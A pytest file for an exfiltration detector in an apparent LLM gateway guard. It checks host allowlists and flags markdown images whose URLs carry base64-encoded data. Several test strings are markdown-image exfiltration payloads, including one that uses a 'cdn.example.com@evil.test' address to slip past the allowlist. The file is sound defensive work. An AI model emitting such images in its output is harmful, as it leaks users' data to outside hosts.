"""The exfiltration detector and its samples."""

import pytest

from llm_gateway.domain.text import Provenance, Segment
from llm_gateway.guard.detector import Reading, Sample
from llm_gateway.guard.detectors.exfiltration import ExfiltrationDetector
from llm_gateway.guard.detectors.exfiltration.detector import SAMPLES

IMAGE = "![x](https://cdn.example.com/a?q=aGVsbG8gd29ybGQgaGVsbG8)"


def _found(text: str, provenance: Provenance = Provenance.MODEL, allowed: tuple[str, ...] = ()) -> list[str]:
    findings = ExfiltrationDetector(allowed).find(Reading(Segment((), text, provenance)))
    return [finding.category for finding in findings if finding.score >= 0.5]


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda sample: ascii(sample.text[:40]))
def test_sample(sample: Sample) -> None:
    """Each sample gives what stands beside it."""
    assert tuple(_found(sample.text, sample.provenance)) == sample.found


@pytest.mark.parametrize("allowed", ["cdn.example.com", "*.example.com", "CDN.Example.com."])
def test_allowed_hosts_are_never_reported(allowed: str) -> None:
    """By exact name, by the names below one, whatever the case."""
    assert _found(IMAGE, allowed=(allowed,)) == []


@pytest.mark.parametrize("allowed", ["example.com", "*.cdn.example.com", "dn.example.com"])
def test_other_names_do_not_allow(allowed: str) -> None:
    """Neither the parent, nor a child, nor a name that merely ends alike."""
    assert _found(IMAGE, allowed=(allowed,)) == ["markdown_image"]


def test_a_user_in_the_address_does_not_fool_the_list() -> None:
    """`allowed@evil` goes to evil."""
    text = "![x](https://cdn.example.com@evil.test/a?q=aGVsbG8gd29ybGQgaGVsbG8)"

    assert _found(text, allowed=("cdn.example.com",)) == ["markdown_image"]


def test_an_image_inside_a_link() -> None:
    """The inner address is the image, the outer one a link."""
    assert _found("[![b](https://a.test/b?x=aGVsbG8gd29ybGQgaGVsbG8)](https://c.test/)") == ["markdown_image"]


def test_the_address_is_the_span() -> None:
    """The finding covers the address, so that masking disarms it and keeps the text."""
    finding = next(iter(ExfiltrationDetector().find(Reading(Segment((), IMAGE, Provenance.MODEL)))))

    assert IMAGE[finding.start : finding.end] == "https://cdn.example.com/a?q=aGVsbG8gd29ybGQgaGVsbG8"
